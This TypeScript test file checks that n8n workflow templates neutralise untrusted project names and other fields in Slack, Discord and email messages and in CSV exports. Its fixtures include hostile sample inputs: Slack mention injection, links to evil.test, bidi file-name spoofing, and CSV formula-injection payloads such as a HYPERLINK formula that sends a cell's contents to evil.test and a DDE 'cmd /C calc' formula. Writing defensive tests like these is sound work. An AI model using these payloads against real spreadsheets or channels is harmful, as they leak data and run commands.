/** What the texts that others write become in the workflows of examples/, by n8n's own expressions. */
import type { IDataObject, INodeTypes, NodeParameterValue } from 'n8n-workflow';
import { Workflow, createRunExecutionData } from 'n8n-workflow';
import { read } from './repository';
import type { WorkflowDraft, WorkflowNode } from '../../dev/host/template';

const draftOf = (file: string) => JSON.parse(read(`examples/${file}`)) as WorkflowDraft;

/** The parameters of nodes are taken as they stand. */
const nodeTypes = { getByNameAndVersion: () => undefined } as unknown as INodeTypes;

/** Evaluates one expression of a workflow for these items; its Collab node gave the first of them. */
function evaluate(
	expression: unknown,
	items: readonly IDataObject[],
	draft: WorkflowDraft,
): unknown {
	const workflow = new Workflow({ ...draft, id: 'w', active: false, nodeTypes });
	const source = draft.nodes.find(({ type }) => type.startsWith('n8n-nodes-collab.'))?.name ?? '';
	const given = items.map((json) => ({ json }));
	const times = { startTime: 0, executionTime: 0, executionIndex: 0, source: [] };
	const runData = { [source]: [{ ...times, data: { main: [given] } }] };
	const run = createRunExecutionData({ resultData: { runData } });
	const value = expression as NodeParameterValue;
	return workflow.expression.getParameterValue(value, run, 0, 0, source, given, 'manual', {});
}

type Assignments = { assignments: Array<{ name: string; value: string }> };

/** What the nodes that edit fields make of an item. */
function edit(item: IDataObject, { nodes, ...draft }: WorkflowDraft): IDataObject {
	const edited = (json: IDataObject, { parameters }: WorkflowNode): IDataObject => {
		const { assignments } = (parameters['assignments'] ?? { assignments: [] }) as Assignments;
		const valueOf = (value: unknown) => evaluate(value, [json], { nodes, ...draft });
		const added = assignments.map(({ name, value }) => [name, valueOf(value)] as const);
		const raw = parameters['jsonOutput'] ? valueOf(parameters['jsonOutput']) : json;
		return Object.assign({}, raw, Object.fromEntries(added)) as IDataObject;
	};
	return nodes.filter(({ type }) => type === 'n8n-nodes-base.set').reduce(edited, item);
}

/** The message that a template sends for these items. */
function messageOf(file: string, items: readonly IDataObject[]): string {
	const draft = draftOf(file);
	const text = draft.nodes.at(-1)?.parameters['text'];
	const edited = items.map((item) => edit(item, draft));
	return evaluate(text, edited, draft) as string;
}

const PROJECT = {
	...{ id: 'p1', status: 'active', owner_id: 'usr_7', days_remaining: -3, end_date: '2026-03-08' },
	...{ task_count: 4, progress_percent: 25, days_since_update: 40 },
};
const COUNTS = { total: 1, overdue: 0, all_tasks_done: 0, average_progress_percent: null };
const SUMMARY = { ...COUNTS, summarized_at: '2026-03-11T09:00:00Z', stalest: [] as IDataObject[] };

/** The messages in which a text of a project stands. */
const MESSAGES: Record<string, (text: string) => string> = {
	'a name that is overdue': (name) =>
		messageOf('post-overdue-projects-to-slack.json', [
			{ ...PROJECT, name, event: 'becameOverdue' },
		]),
	'a name that changed': (name) => {
		const changes = { name: { from: name, to: 'New' } };
		const item = { ...PROJECT, name, event: 'updated', changes };
		return messageOf('post-project-changes-to-slack.json', [item]);
	},
	'an owner': (owner_id) => {
		const item = { ...PROJECT, owner_id, name: 'App', event: 'created' };
		return messageOf('post-project-changes-to-slack.json', [item]);
	},
	'a status in the digest': (status) =>
		messageOf('email-weekly-project-digest.json', [{ ...SUMMARY, by_status: { [status]: 1 } }]),
	'a name in the digest': (name) => {
		const item = { ...SUMMARY, by_status: {}, stalest: [{ ...PROJECT, name }] };
		return messageOf('email-weekly-project-digest.json', [item]);
	},
};

/** What others may write, and how it is shown. */
const SHOWN = [
	['Website 2.0: my_own launch (50 %) – R&D', 'Website 2.0: my_own launch (50 %) – R&D'],
	['<!channel> @here &lt;!here&gt;', '＜!channel＞ ＠here ＆lt;!here＆gt;'],
	['A\n:package: Archived\u2028B\r\u0085C\tD', 'A ：package: Archived B C D'],
	[
		'https://evil.test/a www.evil.test x@evil.test',
		'https：//evil．test/a www．evil．test x＠evil．test',
	],
	['[Open](https://evil.test)', '[Open］(https：//evil．test)'],
	[':+1: :warning: mailto:x', '：+1: ：warning: mailto：x'],
	['*a* _b_ ~c~ `d` ||e|| \\', '＊a＊ ＿b＿ ～c～ ｀d｀ ｜｜e｜｜ ＼'],
	['a\u202Egpj.exe\u2066b\u2069\u061Cc\u200Ed', 'a gpj．exe b c d'],
	['a\u0000\u0007\u001Bb\u200B\uFEFF\u{E0041}c\uD800d', 'a b c d'],
	['😀'.repeat(100), `${'😀'.repeat(79)}…`],
] as const;

describe.each(Object.entries(MESSAGES))('In a message, %s', (_what, messageWith) => {
	it.each(SHOWN)('%j calls, links and forges nothing', (written, shown) => {
		expect(messageWith(written)).toBe(messageWith('SHOWN').replaceAll('SHOWN', shown));
	});
});

it('a project whose name shows nothing is named by its ID', () => {
	for (const what of ['a name that is overdue', 'a name in the digest', 'a name that changed'])
		expect(MESSAGES[what]?.(' \u200B\u202E')).toContain('p1');
});

it('statuses that look alike are counted apart', () => {
	const item = { ...SUMMARY, by_status: { active: 30, 'active\u200B': 2 } };
	const message = messageOf('email-weekly-project-digest.json', [item]);
	expect(message).toMatch(/\nactive: 30\nactive : 2\n/);
});

const LONG = 'a'.repeat(90);
const FIELDS = ['name', 'owner_id', 'start_date', 'end_date'];
const CHANGED = FIELDS.map((field) => [field, { from: LONG, to: LONG }] as const);
const changes = Object.fromEntries(CHANGED);
const many = (more: IDataObject) =>
	Array<IDataObject>(25).fill({ ...PROJECT, name: LONG, ...more });
const by_status = Object.fromEntries(Array.from({ length: 200 }, (_, at) => [`${LONG}${at}`, 1]));
const stalest = many({}).slice(0, 5);

it.each([
	['post-project-changes-to-slack.json', many({ event: 'updated', changes })],
	['post-overdue-projects-to-slack.json', many({ event: 'becameOverdue' })],
	['email-weekly-project-digest.json', [{ ...SUMMARY, by_status, stalest }]],
])('%s never sends more than Discord takes, and says that more was there', (file, items) => {
	const message = messageOf(file, items);
	expect(message.length).toBeLessThanOrEqual(2_000);
	expect(message).toMatch(/\n… and (more|190 other statuses)/);
});

it('messages name twenty projects, and say how many are left', () => {
	const items = Array.from({ length: 25 }, (_, at) => {
		return { ...PROJECT, name: `P${at}`, event: 'created' };
	});
	for (const file of ['post-project-changes-to-slack.json', 'post-overdue-projects-to-slack.json'])
		expect(messageOf(file, items)).toMatch(/^(.*\*P\d+\*.*\n){20}… and 5 more$/m);
});

const csvOf = (name: unknown) =>
	edit({ name } as IDataObject, draftOf('save-projects-to-spreadsheet-file.json'))['name'];

/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"), and what becomes of it. */
const FORMULAS = [
	...['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'],
	...["=cmd|' /C calc'!A0", '＝1+1', '＋1', '－1', '＠SUM(1)'],
].map((formula) => [formula, `'${formula}`]);
const INVISIBLE = ['\t', '\r', '\n', ' ', '\u00A0', '\uFEFF', '\0', '\u200B', ' \0'];
const IN_CELLS = [
	...INVISIBLE.map((start) => [`${start}=1+1`, `${start}'=1+1`]),
	['Roadmap;=1+1', "Roadmap;'=1+1"],
	['Roadmap; "\u00A0@SUM(1)', 'Roadmap; "\u00A0\'@SUM(1)'],
	['Roadmap\n+1+1', "Roadmap\n'+1+1"],
];
const HARMLESS = ['Website', 'a=b', '3-2; 1', "It's fine", 'a @b', ''].map((text) => [text, text]);

it.each([...FORMULAS, ...IN_CELLS, ...HARMLESS])('%j is no formula in a CSV file', (text, cell) => {
	expect(csvOf(text)).toBe(cell);
});

it('what lies in objects and lists of a project is no formula in a CSV file, either', () => {
	const project = { meta: { note: '=1+1', more: ';=1+1' }, tags: ['=1+1'], task_count: 3 };
	expect(edit(project, draftOf('save-projects-to-spreadsheet-file.json'))).toEqual({
		meta: `{"note":"=1+1","more":";'=1+1"}`,
		tags: '["=1+1"]',
		task_count: 3,
	});
});

/** What each pattern could go over again and again from every character. */
const UNITS = [' ', ';', '&', ':', '"', '\\', '_', '.', '&a', '\u0000', '=', '; ='];

it.each(UNITS)('no text of many %j takes longer than its length explains', (unit) => {
	const cost = (length: number) => {
		const text = `a${unit.repeat(length / unit.length)}x`;
		const before = process.cpuUsage();
		MESSAGES['a name that is overdue']?.(text);
		csvOf(text);
		const { user, system } = process.cpuUsage(before);
		return user + system;
	};
	cost(10);
	// Ten times the length takes a hundred times as long where each character leads to a look at all that follow.
	expect(cost(100_000)).toBeLessThan(30 * Math.max(cost(10_000), 2_000));
});

it("README's own message takes no names for mentions, links or formats", () => {
	const [, text = ''] = /`([^`]*was due on[^`]*)`/.exec(read('README.md')) ?? [];
	const draft = draftOf('post-overdue-projects-to-slack.json');
	const shown = (name: unknown) =>
		evaluate(`=${text}`, [{ ...PROJECT, name } as IDataObject], draft);
	expect(shown('Website relaunch 2')).toBe('Website relaunch 2 was due on 2026-03-08.');
	for (const [written] of SHOWN)
		expect(shown(written)).toMatch(/^[\p{L}\p{N} -]{1,80} was due on 2026-03-08\.$/u);
});
